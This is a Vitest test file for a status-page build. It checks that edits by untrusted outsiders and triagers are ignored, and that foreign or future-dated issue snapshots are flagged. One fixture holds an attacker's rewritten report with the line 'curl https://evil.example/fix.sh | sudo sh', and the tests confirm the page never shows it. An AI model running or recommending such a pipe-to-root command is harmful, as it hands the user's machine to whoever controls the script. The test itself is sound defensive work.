/**
 * Issue #10 on real `astro build` output: an adopted report renamed and rewritten by its outsider
 * author still shows the adopted text with a note that a maintainer must confirm; a triager cannot
 * close or raise an incident; a snapshot of another repository or from the future is reported.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { HtmlValidate } from 'html-validate';
import { beforeAll, describe, expect, test } from 'vitest';
import type { FixtureBuild } from '../support/build.ts';
import { buildFixture, text } from '../support/build.ts';
import { closed, event, formBody, issue, outsider, snapshot } from '../support/records.ts';

const T0 = '2026-11-21T09:00:00Z';
const at = (minutes: number): string => new Date(Date.parse(T0) + minutes * 60_000).toISOString();
const ADOPTED = formBody({ Severity: 'P2', 'What is broken': 'Search is slow.' });
const REWRITTEN = formBody({ Severity: 'P0', 'What is broken': 'Everything is down.', Workaround: 'Run curl https://evil.example/fix.sh | sudo sh' });
const olly = outsider('olly');
const tom = outsider('triage-tom');

/** Olly's report, adopted by a maintainer, then renamed and rewritten by Olly. */
const adopted = issue({
  number: 7,
  title: 'PWNED: run the fix script',
  author: olly,
  body: REWRITTEN,
  createdAt: T0,
  updatedAt: at(20),
  events: [
    event('labeled', at(5), { label: 'incident' }),
    event('renamed', at(20), { actor: olly, rename: { from: 'Search is slow', to: 'PWNED: run the fix script' } }),
  ],
  bodyEdits: [
    { editedAt: T0, editor: olly, body: ADOPTED },
    { editedAt: at(20), editor: olly, body: REWRITTEN },
  ],
});
/** A maintainer's P2 incident that a triager raised to P0 and then closed. */
const triaged = closed(
  issue({
    number: 8,
    title: 'Docs build slow',
    labels: ['incident', 'P2', 'P0'],
    createdAt: T0,
    events: [event('labeled', T0, { label: 'incident' }), event('labeled', T0, { label: 'P2' }), event('labeled', at(10), { label: 'P0', actor: tom })],
  }),
  at(30),
);
triaged.events = triaged.events.map((e) => (e.type === 'closed' ? { ...e, actor: tom } : e));
/** Issue #9 twice: the record updated last wins, and the page says it may be incomplete. */
const dupOld = issue({ number: 9, title: 'Old copy of nine', createdAt: T0, updatedAt: at(1), labels: ['incident', 'P2'] });
const dupNew = issue({ number: 9, title: 'New copy of nine', createdAt: T0, updatedAt: at(2), labels: ['incident', 'P2'] });

describe('only trusted people decide what the page says', () => {
  let build: FixtureBuild;
  beforeAll(async () => {
    build = await buildFixture({ snapshot: snapshot([adopted, triaged, dupOld, dupNew]) });
  }, 120_000);

  test('the build succeeds and logs every ignored change with who made it', () => {
    expect(build.code, build.stderr).toBe(0);
    expect(build.stderr).toContain('issue #7: renamed by olly, who is not a maintainer: ignored');
    expect(build.stderr).toMatch(/issue #7: description edited by olly, who is not a maintainer: showing the version of/);
    expect(build.stderr).toContain('issue #8: label "P0" added by triage-tom, who is not a maintainer: ignored');
    expect(build.stderr).toContain('issue #8: closed by triage-tom, who is not a maintainer: ignored');
    expect(build.stderr).toMatch(/issue #9: two records for the same issue/);
  });

  test('an adopted report renamed and rewritten by its author shows the adopted text and says a maintainer must confirm', () => {
    const doc = build.page('incidents/7/');
    expect(text(doc.querySelector('h1'))).toBe('Search is slow');
    expect(doc.title).not.toContain('PWNED');
    const scope = text(doc.querySelector('.scope'));
    expect(scope).toContain('Search is slow.');
    expect(scope).not.toMatch(/sudo sh|Everything is down/);
    expect(text(doc.querySelector('[data-unconfirmed]'))).toMatch(/not a maintainer changed this report .*\(title, description\).*a maintainer must confirm/);
    expect(text(doc.querySelector('.facts'))).toContain('P2');
  });

  test('a triager can neither raise nor close an incident', () => {
    const home = build.page('');
    const body = text(home.body);
    expect(body).toContain('Docs build slow');
    expect(text(home.querySelector('[data-banner]'))).toBe('Degraded performance');
    const page = build.page('incidents/8/');
    expect(text(page.querySelector('.facts'))).toMatch(/Severity ?P2 \(Minor\)/);
    expect(page.querySelector('[data-unconfirmed]')).not.toBeNull();
    expect(page.querySelector('[data-withdrawn]')).toBeNull();
  });

  test('the pages with the note are valid HTML', async () => {
    // The presets of tests/browser/html-validity.test.ts, with its two documented exceptions.
    const validator = new HtmlValidate({
      extends: ['html-validate:recommended', 'html-validate:document'],
      rules: { 'long-title': 'off', 'void-style': 'off' },
    });
    for (const file of ['incidents/7/index.html', 'incidents/8/index.html']) {
      const report = await validator.validateString(readFileSync(path.join(build.outDir, file), 'utf8'), file);
      expect(report.results.flatMap((r) => r.messages.map((m) => `${file}:${m.line} ${m.ruleId}: ${m.message}`))).toEqual([]);
    }
  });

  test('an incident without untrusted changes carries no note; duplicates make the page say it may be incomplete', () => {
    expect(build.page('incidents/9/').querySelector('[data-unconfirmed]')).toBeNull();
    expect(text(build.page('incidents/9/').querySelector('h1'))).toBe('New copy of nine');
    expect(text(build.page('').querySelector('[data-incomplete-warning]'))).toMatch(/could not be read, so this page may be incomplete/);
  });
});

describe('the snapshot as a whole', () => {
  const quiet = [closed(issue({ number: 1, createdAt: '2026-11-19T10:00:00Z' }), '2026-11-19T11:00:00Z')];

  test('a snapshot of another repository is refused, naming both, and nothing is built', async () => {
    const build = await buildFixture({ snapshot: snapshot(quiet, { repository: 'someone/else' }) });
    expect(build.code).toBe(1);
    expect(build.stderr).toMatch(/snapshot\.json holds the issues of "someone\/else", but this site is for "acme\/widgets"/);
    expect(build.exists('')).toBe(false);
  });

  test('a snapshot taken in the future is stale: never "all systems operational"', async () => {
    const build = await buildFixture({ snapshot: snapshot(quiet, { takenAt: '2027-06-01T00:00:00Z' }) });
    expect(build.code, build.stderr).toBe(0);
    expect(build.stderr).toMatch(/snapshot: takenAt 2027-06-01T00:00:00Z is \d+ minutes after the build time/);
    const doc = build.page('');
    expect(text(doc.querySelector('[data-banner]'))).not.toBe('All systems operational');
    expect(doc.querySelector('#stale-warning')?.hasAttribute('hidden')).toBe(false);
    expect(text(doc.querySelector('#stale-warning'))).toContain('a time after this page was built');
  });
});
